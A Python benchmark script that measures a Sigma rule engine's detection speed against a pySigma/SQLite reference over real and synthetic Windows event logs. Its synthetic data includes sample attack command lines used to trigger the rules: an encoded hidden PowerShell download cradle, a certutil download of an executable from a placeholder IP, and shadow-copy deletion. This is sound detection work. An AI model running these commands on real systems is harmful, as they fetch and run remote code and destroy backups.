"""Detection speed: the whole default Sigma rule set over (a) the shared EVTX attack samples and (b) a
million synthetic events with a realistic Sysmon / Security mix, against the naive reference.

The naive reference is what the issue names: pySigma with the sqlite backend and the Windows/Sysmon
pipelines, one SQL query per rule over a flat table (one column per field, indexes on EventID and
Channel). Converting and querying 2,800 rules over a million rows takes far too long for a shared
machine, so the reference runs over the first ``--naive-events`` synthetic events and the compiled
engine over exactly the same events in the same run; the ratio is printed. Targets (2 cores): at most
1/4 of the naive loop's time, at least 5,000 events/s for the whole rule set, peak RSS under 300 MB.

Measured here (2 vCPU shared with seven other sessions, load average 8-14, so every figure is a
fraction of two idle cores): 2,855 rules + 2 correlations compiled, 2 failed ('|expand'); (a) attack
samples 4,400-7,900 events/s; on the same 10,000 synthetic events the naive loop took 11.2 s (896
events/s) and the compiled engine 1.74 s (5,758 events/s): ratio 0.156; (b) the synthetic mix, where
27 % of the events match a rule, 2,400 events/s at load 8 (913 events/s when the full test suite ran
beside it); peak RSS 88-89 MB.

Usage (the reference needs the 'bench' extra: pip install -e '.[bench]'):
    .venv/bin/python bench/bench_detect.py [--events 1000000] [--naive-events 20000] [--no-naive]
"""
from __future__ import annotations

import argparse
import json
import os
import random
import re
import resource
import sqlite3
import sys
import tempfile
import time
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))

from analysis.detect import engine, rules  # noqa: E402

SHARED = Path(os.environ.get("UNGCUU_SHARED_DATA", REPO.parent / "shared" / "data"))  # as tests/conftest.py
SYSMON = ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational")
SECURITY = ("Microsoft-Windows-Security-Auditing", "Security")
BINARIES = ["C:\\Windows\\System32\\svchost.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "C:\\Windows\\System32\\conhost.exe", "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\cmd.exe",
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Windows\\System32\\rundll32.exe",
            "C:\\Windows\\System32\\taskhostw.exe", "C:\\Windows\\System32\\backgroundTaskHost.exe",
            "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
            "C:\\Windows\\System32\\SearchProtocolHost.exe", "C:\\Windows\\System32\\dllhost.exe",
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "C:\\Windows\\System32\\msiexec.exe",
            "C:\\Windows\\System32\\sc.exe", "C:\\Windows\\System32\\net.exe", "C:\\Windows\\System32\\whoami.exe",
            "C:\\Users\\alice\\AppData\\Local\\Temp\\setup_x64.exe", "C:\\Windows\\System32\\schtasks.exe"]
ARGS = ["", " -k netsvcs -p -s Schedule", " --type=renderer --field-trial-handle=1234", " /c echo hello",
        " -NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1", " /S /v/qn", " query type= service",
        " user", " /all", " /create /tn Update /tr C:\\tools\\u.exe /sc daily", " shell32.dll,Control_RunDLL"]
ATTACK = [("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
           "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"),
          ("C:\\Windows\\System32\\certutil.exe", "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe"),
          ("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet")]


def synthetic(n: int, seed: int = 1):
    """(ts, source, message, fields_json, evidence_id, locator) rows: a day of a busy workstation."""
    rnd = random.Random(seed)
    ts = 1_700_000_000_000_000
    for i in range(n):
        ts += rnd.randint(1, 200_000)
        r = rnd.random()
        img = rnd.choice(BINARIES)
        if r < 0.30:
            if rnd.random() < 0.002:
                img, cmd = rnd.choice(ATTACK)
            else:
                cmd = f'"{img}"{rnd.choice(ARGS)}'
            eid, (prov, chan) = 1, SYSMON
            data = {"RuleName": "-", "UtcTime": "2023-11-14 22:13:20.000", "ProcessGuid": "{abc}", "ProcessId": 4000 + i % 5000,
                    "Image": img, "FileVersion": "10.0", "Description": "x", "Product": "Microsoft Windows",
                    "Company": "Microsoft Corporation", "OriginalFileName": img.rsplit("\\", 1)[1], "CommandLine": cmd,
                    "CurrentDirectory": "C:\\Windows\\system32\\", "User": "CORP\\alice", "LogonId": "0x3e7",
                    "IntegrityLevel": rnd.choice(["Medium", "High", "System"]), "Hashes": f"SHA256={i:064x}",
                    "ParentImage": rnd.choice(BINARIES), "ParentCommandLine": "C:\\Windows\\explorer.exe"}
        elif r < 0.45:
            eid, (prov, chan) = 3, SYSMON
            data = {"Image": img, "User": "CORP\\alice", "Protocol": "tcp", "Initiated": "true", "SourceIp": "10.0.0.5",
                    "SourcePort": rnd.randint(49152, 65535), "DestinationIp": f"93.184.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}",
                    "DestinationPort": rnd.choice([443, 80, 53, 445, 3389]), "DestinationHostname": "example.com"}
        elif r < 0.55:
            eid, (prov, chan) = 11, SYSMON
            data = {"Image": img, "TargetFilename": f"C:\\Users\\alice\\AppData\\Local\\Temp\\tmp{i % 9999}.tmp",
                    "CreationUtcTime": "2023-11-14 22:13:20.000", "User": "CORP\\alice"}
        elif r < 0.65:
            eid, (prov, chan) = 13, SYSMON
            data = {"EventType": "SetValue", "Image": img, "Details": "DWORD (0x00000001)",
                    "TargetObject": f"HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Key{i % 50}"}
        elif r < 0.75:
            eid, (prov, chan) = 7, SYSMON
            data = {"Image": img, "ImageLoaded": "C:\\Windows\\System32\\kernelbase.dll", "Signed": "true",
                    "Signature": "Microsoft Windows", "SignatureStatus": "Valid", "Hashes": f"SHA256={i:064x}"}
        elif r < 0.85:
            eid, (prov, chan) = 4624, SECURITY
            data = {"SubjectUserName": "PC$", "TargetUserName": rnd.choice(["alice", "bob", "SYSTEM"]),
                    "TargetDomainName": "CORP", "LogonType": rnd.choice([2, 3, 5, 10]), "IpAddress": "10.0.0.9",
                    "LogonProcessName": "Kerberos", "AuthenticationPackageName": "Kerberos", "WorkstationName": "PC"}
        elif r < 0.90:
            eid, (prov, chan) = 4625, SECURITY
            data = {"TargetUserName": rnd.choice(["admin", "administrator", "test"]), "LogonType": 3,
                    "IpAddress": f"203.0.113.{rnd.randint(1, 20)}", "Status": "0xc000006d", "SubStatus": "0xc000006a"}
        elif r < 0.95:
            eid, (prov, chan) = 4688, SECURITY
            data = {"SubjectUserName": "alice", "SubjectDomainName": "CORP", "NewProcessName": img,
                    "CommandLine": f'"{img}"{rnd.choice(ARGS)}', "ParentProcessName": rnd.choice(BINARIES),
                    "TokenElevationType": "%%1936", "MandatoryLabel": "S-1-16-8192"}
        else:
            eid, (prov, chan) = 4672, SECURITY
            data = {"SubjectUserName": "SYSTEM", "PrivilegeList": "SeDebugPrivilege SeTcbPrivilege"}
        fields = {"event_id": eid, "provider": prov, "channel": chan, "record_id": i, "computer": "PC", "data": data}
        yield ts, "evtx", f"[{eid}]", json.dumps(fields), "E000001", f"record {i}"


def attack_rows():
    from analysis.events import ParseReport
    from analysis.parsers import evtx

    out = []
    if not (SHARED / "evtx" / "attack-samples").is_dir():
        print(f"(a) attack samples not found under {SHARED} (set UNGCUU_SHARED_DATA)")
    for p in sorted((SHARED / "evtx" / "attack-samples").rglob("*.evtx")):
        for e in evtx.parse(str(p), ParseReport(), evidence_id="E1"):
            out.append((e.timestamp, e.source, e.message, e.fields_json or json.dumps(e.fields), "E1", e.locator))
    return out


def rss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def timed(rows, rs):
    t = time.perf_counter()
    res = engine.run(rows, rs)
    return time.perf_counter() - t, res


def naive(rows, rs) -> tuple[float, float, int, int]:
    """pySigma-sqlite: (convert seconds, query seconds, rules converted, rules pySigma cannot convert)."""
    from sigma.backends.sqlite import sqliteBackend
    from sigma.collection import SigmaCollection
    from sigma.pipelines.sysmon import sysmon_pipeline
    from sigma.pipelines.windows import windows_logsource_pipeline

    backend = sqliteBackend(sysmon_pipeline() + windows_logsource_pipeline())
    t = time.perf_counter()
    queries, failed = [], 0
    for path in sorted({r.path for r in rs.rules}):
        try:
            text = (REPO / path).read_text(encoding="utf-8")
            queries.extend(backend.convert(SigmaCollection.from_yaml(text)))
        except Exception:
            failed += 1
    convert_s = time.perf_counter() - t
    db = sqlite3.connect(":memory:")
    db.create_function("regexp", 2, lambda p, s: s is not None and re.search(p, str(s)) is not None, deterministic=True)
    cols: list[str] = ["EventID", "Channel", "Provider_Name", "Computer"]
    flat = []
    for _ts, _src, _msg, fields, _e, _loc in rows:
        f = json.loads(fields)
        d = {"EventID": f["event_id"], "Channel": f["channel"], "Provider_Name": f["provider"], "Computer": f["computer"]}
        d.update(f["data"])
        if f["event_id"] == 4688:
            d.setdefault("Image", d.get("NewProcessName"))
            d.setdefault("ParentImage", d.get("ParentProcessName"))
        for k in d:
            if k not in cols:
                cols.append(k)
        flat.append(d)
    db.execute(f"CREATE TABLE logs ({', '.join(f'[{c}]' for c in cols)})")
    db.executemany(f"INSERT INTO logs VALUES ({', '.join('?' * len(cols))})",
                   [[d.get(c) for c in cols] for d in flat])
    db.execute("CREATE INDEX logs_eid ON logs (EventID)")
    db.execute("CREATE INDEX logs_chan ON logs (Channel, EventID)")
    t = time.perf_counter()
    for q in queries:
        while True:
            try:
                db.execute(q).fetchall()
                break
            except sqlite3.OperationalError as exc:
                m = re.match(r"no such column: (\S+)", str(exc))
                if not m:
                    break
                db.execute(f"ALTER TABLE logs ADD COLUMN [{m.group(1)}]")
    query_s = time.perf_counter() - t
    return convert_s, query_s, len(queries), failed


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--events", type=int, default=1_000_000)
    ap.add_argument("--naive-events", type=int, default=20_000)
    ap.add_argument("--no-naive", action="store_true")
    a = ap.parse_args()

    t = time.perf_counter()
    rs = rules.load()
    s = rs.summary()
    print(f"rules: {s['rules']} compiled + {s['correlations']} correlations, {s['failed']} failed, "
          f"{s['not_selected']} not in the default choice; loaded in {time.perf_counter() - t:.2f} s")

    rows = attack_rows()
    secs, res = timed(rows, rs)
    print(f"(a) attack samples: {len(rows)} events in {secs:.2f} s = {len(rows) / secs:,.0f} events/s, "
          f"{len(res.hits)} hits")

    with tempfile.TemporaryDirectory(prefix="ungcuu-bench-") as tmp:
        db = sqlite3.connect(str(Path(tmp) / "timeline.sqlite"))
        db.execute("CREATE TABLE events (id INTEGER PRIMARY KEY, ts INTEGER, source TEXT, message TEXT, fields TEXT, "
                   "evidence_id TEXT, locator TEXT)")
        batch = []
        for row in synthetic(a.events):
            batch.append(row)
            if len(batch) == 10_000:
                db.executemany("INSERT INTO events (ts, source, message, fields, evidence_id, locator) VALUES (?,?,?,?,?,?)", batch)
                batch.clear()
        db.executemany("INSERT INTO events (ts, source, message, fields, evidence_id, locator) VALUES (?,?,?,?,?,?)", batch)
        db.execute("CREATE INDEX events_ts ON events (ts, id)")
        db.commit()
        sql = "SELECT ts, source, message, fields, evidence_id, locator FROM events ORDER BY ts, id"
        t = time.perf_counter()
        res = engine.run(db.execute(sql), rs)
        secs = time.perf_counter() - t
        print(f"(b) synthetic: {res.events:,} events in {secs:.1f} s = {res.events / secs:,.0f} events/s (streamed "
              f"from SQLite), {len(res.hits)} hits, {sum(h.count for h in res.hits):,} matches; peak RSS {rss_mb():.0f} MB")
        if a.no_naive:
            return
        sub = list(db.execute(sql + f" LIMIT {int(a.naive_events)}"))
    try:
        import sigma.backends.sqlite  # noqa: F401
    except ImportError:
        print("naive reference skipped: pySigma and pysigma-backend-sqlite are not installed (pip install -e '.[bench]')")
        return
    ours, _ = timed(sub, rs)
    convert_s, query_s, n_q, n_fail = naive(sub, rs)
    print(f"naive pySigma-sqlite over the same {len(sub):,} events: {n_q} queries ({n_fail} rule files pySigma "
          f"could not convert; conversion {convert_s:.1f} s not counted), {query_s:.2f} s = "
          f"{len(sub) / query_s:,.0f} events/s; compiled engine {ours:.2f} s = {len(sub) / ours:,.0f} events/s; "
          f"ratio {ours / query_s:.3f} of the naive time (target <= 0.25)")


if __name__ == "__main__":
    main()
